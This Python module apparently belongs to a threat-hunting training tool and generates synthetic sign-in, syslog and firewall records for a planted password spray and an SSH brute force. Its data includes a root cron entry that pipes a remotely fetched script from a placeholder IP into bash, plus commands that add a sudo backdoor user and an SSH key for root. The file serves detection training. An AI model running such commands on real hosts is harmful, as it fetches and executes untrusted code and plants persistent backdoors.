"""The planted identity attacks: an Entra ID password spray and an SSH brute force."""

from __future__ import annotations

import json
from collections.abc import Iterable
from datetime import datetime, timedelta

import numpy as np

from huntbook.data.lake._demo_arrow import stable_uuid
from huntbook.data.lake._demo_cloud import BAD_PASSWORD, location_details, status, user_id
from huntbook.data.lake._demo_context import from_us, to_us
from huntbook.data.lake._demo_emit import Emitter
from huntbook.data.lake._demo_linux import CRON_CLOSED, CRON_OPENED, LINUX_USERS, SUDO_CLOSED
from huntbook.data.lake._demo_truth import (
    Alert,
    Host,
    Indicator,
    PasswordSpray,
    SshBruteForce,
    Stage,
)

SPRAY = "password_spray"
SSH = "ssh_brute_force"
SPRAY_STREAM = 41
SSH_STREAM = 42

SPRAY_IP = "203.0.113.45"
SPRAY_APP = (
    "Azure Active Directory PowerShell",
    "1b730954-1685-4b74-9bfd-dac224a7b894",
    "Windows Azure Active Directory",
)
SPRAY_VICTIM = "lnguyen"
SPRAY_AGENT = "python-requests/2.31.0"
SPRAY_CITY = ("Amsterdam", "Noord-Holland", 52.3676, 4.9041)

SSH_IP = "198.51.100.77"
SSH_HOST = "lnx-bastion01"
SSH_VICTIM = "deploy"
BACKDOOR_USER = "sysbackup"
CRON_URL = f"http://{SSH_IP}/k.sh"
CRON_COMMAND = f"/usr/bin/curl -fsSL {CRON_URL} | /bin/bash >/dev/null 2>&1"
CRON_ENTRY = f"*/15 * * * * {CRON_COMMAND}"
AUTHORIZED_KEYS = "/root/.ssh/authorized_keys"
_GUESSES = (
    ("root", 40),
    ("admin", 25),
    ("ubuntu", 15),
    ("test", 12),
    ("oracle", 8),
    ("postgres", 8),
    ("git", 6),
    ("user", 6),
    ("deploy", 14),
)
_VALID = {"root", *LINUX_USERS}


def plant_spray(em: Emitter, day: int) -> tuple[PasswordSpray, list[Alert], list[Indicator]]:
    """Write a two-round password spray early on *day* and the compromised user's sign-ins."""
    ctx, env = em.ctx, em.env
    rng = ctx.rng(SPRAY_STREAM, 0)
    people = [u for u in env.users if u.kind == "user"]
    order = [people[i] for i in rng.permutation(len(people))]
    victim = env.user(SPRAY_VICTIM)
    t = ctx.start + timedelta(days=day, hours=2, minutes=13, seconds=4.25)
    app, app_id, resource = SPRAY_APP
    location = location_details(SPRAY_CITY, "NL")
    device = json.dumps({"deviceId": "", "operatingSystem": "", "browser": "Python Requests 2.31"})
    failures, attempts = 0, 0
    first = last = success = t

    def signin(
        when: timedelta,
        user_index: int,
        code: int,
        app_name: str = app,
        app_guid: str = app_id,
        res: str = resource,
    ) -> None:
        u = order[user_index] if user_index >= 0 else victim
        ok = code == 0
        em.rows["SigninLogs"].append(
            {
                "TimeGenerated": t + when,
                "Id": stable_uuid(f"spray:{when}:{u.upn}"),
                "CorrelationId": stable_uuid(f"spray-correlation:{when}:{u.upn}"),
                "UserPrincipalName": u.upn,
                "UserDisplayName": u.display_name,
                "UserId": user_id(u),
                "AppDisplayName": app_name,
                "AppId": app_guid,
                "ResourceDisplayName": res,
                "IPAddress": SPRAY_IP,
                "Location": "NL",
                "LocationDetails": location,
                "ResultType": str(code),
                "ResultDescription": None if ok else BAD_PASSWORD,
                "Status": status(code),
                "ClientAppUsed": "Mobile Apps and Desktop clients",
                "UserAgent": SPRAY_AGENT,
                "DeviceDetail": device,
                "ConditionalAccessStatus": "notApplied",
                "AuthenticationRequirement": "singleFactorAuthentication",
                "IsInteractive": True,
                "RiskLevelDuringSignIn": "medium" if ok else "none",
                "RiskState": "atRisk" if ok else "none",
                "Type": "SigninLogs",
            }
        )

    offset = timedelta(0)
    for round_ in range(2):
        for i, u in enumerate(order):
            code = 0 if (round_ == 1 and u is victim) else 50126
            signin(offset, i, code)
            last = t + offset
            attempts += 1
            if code:
                failures += 1
            else:
                success = t + offset
            offset += timedelta(seconds=float(rng.uniform(11, 17)))
        offset += timedelta(minutes=5, seconds=float(rng.uniform(0, 30)))
    follow_up = (
        (
            timedelta(minutes=39),
            "Microsoft Office",
            "d3590ed6-52b3-4102-aeff-aad2292ab01c",
            "Office 365 Exchange Online",
        ),
        (timedelta(minutes=57), "OfficeHome", "4765445b-32c6-49b0-83e6-1d93765276ca", "OfficeHome"),
        (
            timedelta(hours=4, minutes=31),
            "Microsoft Office",
            "d3590ed6-52b3-4102-aeff-aad2292ab01c",
            "Office 365 Exchange Online",
        ),
    )
    for when, name, guid, res in follow_up:
        signin(when + (success - t), -1, 0, name, guid, res)
    alert = em.alert(
        success + timedelta(minutes=48),
        "Password spray",
        scenario=SPRAY,
        severity="Medium",
        provider="IPC",
        compromised=victim.upn,
        tactics=("CredentialAccess",),
        techniques=("T1110.003",),
        description=f"{attempts} sign-in attempts against {len(order)} accounts from {SPRAY_IP}; "
        f"{victim.upn} signed in successfully.",
        account=victim,
        ips=(SPRAY_IP,),
        started=first,
    )
    spray_stage = Stage(
        "password_spray",
        "CredentialAccess",
        f"Two rounds of one password per account against {len(order)} accounts from {SPRAY_IP}; "
        f"{victim.upn} falls in the second round.",
        ("T1110.003",),
        first,
        last,
        (),
        tuple(u.upn for u in order),
        ("SigninLogs", "SecurityAlert"),
        indicators=(SPRAY_IP,),
        alerts=("Password spray",),
    )
    access_stage = Stage(
        "cloud_access",
        "InitialAccess",
        f"The attacker uses {victim.upn}'s password from {SPRAY_IP} to read mail.",
        ("T1078.004",),
        success,
        success + follow_up[-1][0],
        (),
        (victim.upn,),
        ("SigninLogs",),
        indicators=(SPRAY_IP,),
    )
    truth = PasswordSpray(
        source_ip=SPRAY_IP,
        start=first,
        end=last,
        app=app,
        targeted_accounts=tuple(u.upn for u in order),
        attempts=attempts,
        failures=failures,
        failure_result_type="50126",
        compromised_account=victim.upn,
        success_time=success,
        post_compromise_signins=len(follow_up),
        stages=(spray_stage, access_stage),
    )
    return truth, [alert], [Indicator("ip", SPRAY_IP, "spray_ip", True, SPRAY)]


def plant_ssh(em: Emitter, day: int) -> tuple[SshBruteForce, list[Alert], list[Indicator]]:
    """Write an SSH brute force late on *day*, the backdoor account and a cron implant."""
    ctx, env = em.ctx, em.env
    rng = ctx.rng(SSH_STREAM, 0)
    h = env.host(SSH_HOST)
    t = ctx.start + timedelta(days=day, hours=22, minutes=31, seconds=5.118)
    first = t
    failures = invalid = 0
    port = 40000
    for user, tries in _GUESSES:
        for i in range(tries):
            port += int(rng.integers(3, 40))
            pid = int(rng.integers(100_000, 400_000))
            last_try = user == SSH_VICTIM and i == tries - 1
            em.firewall(
                t,
                SSH_IP,
                port,
                env.bastion_public_ip,
                22,
                sent=int(rng.integers(2_500, 3_400)),
                received=int(rng.integers(2_800, 3_900)),
                app="ssh",
            )
            if last_try:
                break
            account = user
            if user not in _VALID:
                em.syslog(t, h, "auth", "info", "sshd", pid, f"Invalid user {user} from {SSH_IP} port {port}")
                account = f"invalid user {user}"
                invalid += 1
            failed = f"Failed password for {account} from {SSH_IP} port {port} ssh2"
            em.syslog(t + timedelta(seconds=2.1), h, "auth", "info", "sshd", pid, failed)
            failures += 1
            t += timedelta(seconds=float(rng.uniform(8, 14)))
    success, pid = t, 318_774
    uid = LINUX_USERS[SSH_VICTIM]
    accepted = f"Accepted password for {SSH_VICTIM} from {SSH_IP} port {port} ssh2"
    opened = f"pam_unix(sshd:session): session opened for user {SSH_VICTIM}(uid={uid}) by (uid=0)"
    login = (
        (0, "auth", "info", "sshd", pid, accepted),
        (0.05, "authpriv", "info", "sshd", pid, opened),
        (0.2, "auth", "info", "systemd-logind", 812, f"New session 9102 of user {SSH_VICTIM}."),
    )
    _syslog(em, h, t, login)
    brute_stage = Stage(
        "ssh_brute_force",
        "CredentialAccess",
        f"{failures} failed SSH passwords from {SSH_IP} against {SSH_HOST}, then a successful "
        f"login as {SSH_VICTIM}.",
        ("T1110.001",),
        first,
        success,
        (h.name,),
        (SSH_VICTIM,),
        ("Syslog", "CommonSecurityLog"),
        indicators=(SSH_IP,),
        alerts=("Successful SSH brute force attack",),
    )

    # Persistence: a sudo-capable backdoor user, an SSH key for root and a root cron job.
    t = success + timedelta(minutes=2, seconds=13.4)
    backdoor_uid = 1003
    steps = (
        (
            f"/usr/sbin/useradd -m -s /bin/bash -G sudo {BACKDOOR_USER}",
            "useradd",
            (
                ("authpriv", "info", f"new group: name={BACKDOOR_USER}, GID={backdoor_uid}"),
                (
                    "authpriv",
                    "info",
                    f"new user: name={BACKDOOR_USER}, UID={backdoor_uid}, GID={backdoor_uid}, "
                    f"home=/home/{BACKDOOR_USER}, shell=/bin/bash, from=/dev/pts/0",
                ),
                ("authpriv", "info", f"add '{BACKDOOR_USER}' to group 'sudo'"),
                ("authpriv", "info", f"add '{BACKDOOR_USER}' to shadow group 'sudo'"),
            ),
        ),
        (
            f"/usr/bin/passwd {BACKDOOR_USER}",
            "passwd",
            (("authpriv", "notice", f"pam_unix(passwd:chauthtok): password changed for {BACKDOOR_USER}"),),
        ),
        (f"/usr/bin/tee -a {AUTHORIZED_KEYS}", "", ()),
        (
            "/usr/bin/crontab -e",
            "crontab",
            (
                ("cron", "info", "(root) BEGIN EDIT (root)"),
                ("cron", "info", "(root) REPLACE (root)"),
                ("cron", "info", "(root) END EDIT (root)"),
            ),
        ),
    )
    commands = []
    for i, (command, tool, lines) in enumerate(steps):
        sudo_pid = 319_020 + 40 * i
        sudo = f"{SSH_VICTIM} : TTY=pts/0 ; PWD=/home/{SSH_VICTIM} ; USER=root ; COMMAND={command}"
        opened = f"pam_unix(sudo:session): session opened for user root(uid=0) by {SSH_VICTIM}(uid={uid})"
        session = (
            (0, "authpriv", "notice", "sudo", sudo_pid, sudo),
            (0.01, "authpriv", "info", "sudo", sudo_pid, opened),
            *((0.1 + 0.01 * j, f, level, tool, sudo_pid + 1, m) for j, (f, level, m) in enumerate(lines)),
            (3 + 20 * (tool == "crontab"), "authpriv", "info", "sudo", sudo_pid, SUDO_CLOSED),
        )
        _syslog(em, h, t, session)
        commands.append(command)
        t += timedelta(seconds=float(rng.uniform(40, 95)))
    logout = t + timedelta(minutes=1, seconds=7)
    disconnect = f"Received disconnect from {SSH_IP} port {port}:11: disconnected by user"
    closed = f"pam_unix(sshd:session): session closed for user {SSH_VICTIM}"
    em.syslog(logout, h, "auth", "info", "sshd", pid, disconnect)
    em.syslog(logout + timedelta(seconds=0.01), h, "authpriv", "info", "sshd", pid, closed)
    persistence_end = logout
    cron_runs = _cron_implant(em, h, t)
    alert = em.alert(
        success + timedelta(minutes=6, seconds=40),
        "Successful SSH brute force attack",
        scenario=SSH,
        severity="High",
        provider="Azure Security Center",
        compromised=h.name,
        tactics=("CredentialAccess",),
        techniques=("T1110.001",),
        description=f"{failures} failed logins from {SSH_IP} were followed by a successful login "
        f"as {SSH_VICTIM}.",
        host=h,
        ips=(SSH_IP,),
        started=first,
        extra=[{"Name": SSH_VICTIM, "HostName": h.name, "Type": "account"}],
    )
    persistence_stage = Stage(
        "persistence",
        "Persistence",
        f"As {SSH_VICTIM} the attacker uses sudo to add the sudo-capable user {BACKDOOR_USER}, "
        f"append a key to {AUTHORIZED_KEYS} and install the root cron job '{CRON_ENTRY}', "
        f"which runs every 15 minutes until the end of the data.",
        ("T1136.001", "T1098.004", "T1053.003", "T1548.003"),
        success + timedelta(minutes=2, seconds=13.4),
        persistence_end,
        (h.name,),
        (SSH_VICTIM, "root"),
        ("Syslog", "CommonSecurityLog"),
        indicators=(CRON_URL,),
    )
    truth = SshBruteForce(
        host=h.name,
        host_ip=h.ip,
        source_ip=SSH_IP,
        start=first,
        end=success,
        usernames=tuple(u for u, _ in _GUESSES),
        failures=failures,
        invalid_user_failures=invalid,
        compromised_account=SSH_VICTIM,
        success_time=success,
        backdoor_user=BACKDOOR_USER,
        authorized_keys_file=AUTHORIZED_KEYS,
        cron_entry=CRON_ENTRY,
        cron_runs=cron_runs,
        stages=(brute_stage, persistence_stage),
    )
    indicators = [
        Indicator("ip", SSH_IP, "ssh_source_ip", True, SSH),
        Indicator("url", CRON_URL, "cron_download_url", False, SSH),
    ]
    return truth, [alert], indicators


def _cron_implant(em: Emitter, h: Host, after: datetime) -> int:
    """Write every run of the root cron job (each quarter hour) to the end of the data."""
    quarter = 15 * 60 * 1_000_000
    first = (to_us(after) // quarter + 1) * quarter
    runs = np.arange(first, em.ctx.end_us, quarter, dtype=np.int64)
    rng = em.ctx.rng(SSH_STREAM, 1)
    for i, us in enumerate(runs):
        t = from_us(int(us) + int(rng.integers(5_000, 400_000)))
        pid = 400_000 + 13 * i
        cron = (
            (0, "authpriv", "info", "CRON", pid, CRON_OPENED),
            (0.001, "cron", "info", "CRON", pid, f"(root) CMD ({CRON_COMMAND})"),
            (2, "authpriv", "info", "CRON", pid, CRON_CLOSED),
        )
        _syslog(em, h, t, cron)
        em.firewall(
            t + timedelta(seconds=1),
            h.ip,
            40000 + i % 20000,
            SSH_IP,
            80,
            sent=187,
            received=912,
            url=CRON_URL,
            app="web-browsing",
        )
    return len(runs)


def _syslog(
    em: Emitter, h: Host, t: datetime, lines: Iterable[tuple[float, str, str, str, int, str]]
) -> None:
    """Write syslog *lines* of *h*: ``(seconds after t, facility, severity, process, pid, message)``."""
    for after, facility, severity, process, pid, message in lines:
        em.syslog(t + timedelta(seconds=after), h, facility, severity, process, pid, message)
